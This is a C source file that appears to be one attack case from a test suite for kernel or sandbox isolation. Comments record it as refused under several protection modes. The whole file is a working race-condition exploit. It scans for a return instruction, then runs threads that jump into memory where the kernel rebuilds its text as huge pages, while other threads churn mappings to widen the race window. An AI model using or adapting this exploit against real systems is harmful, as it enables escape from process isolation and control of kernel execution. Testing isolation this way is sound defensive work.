/* Threads jump to where the kernel makes huge pages of its text before they come in the old ones' place: what is there is a second
   text, whose entries would look for everything at the wrong distance. */
/* none: refused */
/* pkey: refused */
/* process: refused */
#include "attack.h"
#include <setjmp.h>

/* The text is in the image's second 2 MiB and behind, the new pages end with the image's room. */
#define TEXT (KERNEL + (2ul << 20))
#define NEW_PAGES (CONTROL - (4ul << 20))

static __thread sigjmp_buf landing;
static volatile int has_run;
static uintptr_t spot = 1 << 20;

static void on_fault(int signal)
{
	siglongjmp(landing, signal);
}

static void *jumper(void *unused)
{
	(void)unused;
	for (;;)
		if (sigsetjmp(landing, 0) == 0) {
			((void (*)(void))(NEW_PAGES + spot))();
			has_run = 1;
		}
	return 0;
}

/* Keeps the host busy with the process' mappings, so that each change of one takes longer. */
static void *mapper(void *unused)
{
	(void)unused;
	for (;;) {
		size_t len = 48ul << 20;
		void *memory = mmap(0, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
		if (memory != MAP_FAILED)
			munmap(memory, len);
	}
	return 0;
}

static int attack(void)
{
	struct sigaction action = { .sa_handler = on_fault, .sa_flags = SA_NODEFER };
	for (int signal = SIGILL; signal <= SIGSEGV; signal++)
		if (signal != SIGKILL)
			sigaction(signal, &action, 0);
	/* Where the text can be read, a place at which it returns. */
	if (sigsetjmp(landing, 0) == 0)
		for (uintptr_t at = TEXT + spot; at < TEXT + (3 << 20); at++)
			if (*(volatile unsigned char *)at == 0xc3) {
				spot = at - TEXT;
				break;
			}
	pthread_t thread;
	for (int i = 0; i < 4; i++)
		if (pthread_create(&thread, 0, i % 2 ? mapper : jumper, 0))
			return REFUSED;
	/* Neither waits nor calls, so that the kernel has to come to it. */
	struct timespec from, to;
	clock_gettime(CLOCK_MONOTONIC, &from);
	do
		clock_gettime(CLOCK_MONOTONIC, &to);
	while (!has_run && (to.tv_sec - from.tv_sec) * 1000000000l + to.tv_nsec - from.tv_nsec < 400000000l);
	return has_run ? 0 : REFUSED;
}
